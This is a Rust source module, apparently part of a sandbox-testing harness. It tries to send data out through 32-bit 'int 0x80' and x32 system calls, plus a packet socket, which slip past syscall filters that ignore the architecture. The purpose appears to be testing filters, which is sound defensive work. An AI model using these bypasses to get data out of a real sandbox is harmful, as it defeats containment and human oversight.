//! System calls through the doors of other binary interfaces, which a filter that does not check
//! the architecture takes for other calls.

use std::os::fd::{FromRawFd, OwnedFd};

use libc::{AF_INET, AF_UNIX, SOCK_DGRAM, SOCK_STREAM};
use nix::errno::Errno;

use super::{
    Attempt, Vector,
    sys::{self, Memory, address},
};

// arch/x86/entry/syscalls/syscall_32.tbl
const WRITE: u32 = 4;
const SOCKET: u32 = 359;
const CONNECT: u32 = 362;

const X32: libc::c_long = 0x4000_0000;

pub(super) const VECTORS: &[Vector] = &[
    Vector::new("int80-udp", "a datagram by 32-bit calls", |job| {
        send(AF_INET, SOCK_DGRAM, &address(job.target), job.bytes())
    })
    .fatal()
    .optional(),
    Vector::new("int80-tcp", "a connection by 32-bit calls", |job| {
        send(AF_INET, SOCK_STREAM, &address(job.target), job.bytes())
    })
    .fatal()
    .optional(),
    Vector::new(
        "int80-unix",
        "a unix socket outside by 32-bit calls",
        |job| {
            let path = job.stage.join("stream.sock").display().to_string();
            send(AF_UNIX, SOCK_STREAM, &sys::unix_address(&path), job.bytes())
        },
    )
    .fatal()
    .optional(),
    Vector::new(
        "int80-packet",
        "a packet socket made by a 32-bit call",
        |job| {
            let kind = i32::from(0x0800_u16.to_be());
            let socket = socket(libc::AF_PACKET, SOCK_DGRAM, kind)?;
            super::packet::send_datagram(&socket, job)
        },
    )
    .by_root()
    .fatal()
    .optional(),
    Vector::new("x32-udp", "a datagram by x32 calls", |job| {
        let arguments = [AF_INET as usize, SOCK_DGRAM as usize, 0];
        let socket = match sys::call_fd(libc::SYS_socket | X32, &arguments) {
            Err(Errno::ENOSYS) => return super::missing("this kernel has no x32 calls"),
            socket => socket?,
        };
        Ok(sys::send(&socket, job.bytes(), 0, &address(job.target))?)
    })
    .fatal()
    .optional(),
];

fn socket(domain: i32, kind: i32, protocol: i32) -> Result<OwnedFd, Errno> {
    let fd = call(SOCKET, [domain as u32, kind as u32, protocol as u32])?;
    // SAFETY: the kernel just made this descriptor and nothing else owns it.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn send(domain: i32, kind: i32, to: &[u8], data: &[u8]) -> Attempt {
    use std::os::fd::AsRawFd as _;
    let low = Memory::low(4096)?;
    low.write(0, to);
    low.write(1024, data);
    let socket = socket(domain, kind, 0)?;
    let (fd, place) = (socket.as_raw_fd() as u32, low.start as u32);
    call(CONNECT, [fd, place, to.len() as u32])?;
    call(WRITE, [fd, place + 1024, data.len() as u32])?;
    std::thread::sleep(std::time::Duration::from_millis(200));
    Ok(())
}

/// `int 0x80` with three arguments; any memory they name lies below 4 GiB.
#[cfg(target_arch = "x86_64")]
fn call(number: u32, arguments: [u32; 3]) -> Result<i32, Errno> {
    let mut result = u64::from(number);
    // SAFETY: the kernel checks the number and the memory as it does for any call; rbx, which
    // the compiler keeps for itself, is put back, and r8 to r11 are declared lost.
    unsafe {
        std::arch::asm!(
            "xchg {first}, rbx",
            "int 0x80",
            "xchg {first}, rbx",
            first = inout(reg) u64::from(arguments[0]) => _,
            inout("rax") result,
            in("rcx") u64::from(arguments[1]),
            in("rdx") u64::from(arguments[2]),
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    Errno::result(result as i32)
}

#[cfg(not(target_arch = "x86_64"))]
fn call(_number: u32, _arguments: [u32; 3]) -> Result<i32, Errno> {
    Err(Errno::ENOSYS)
}
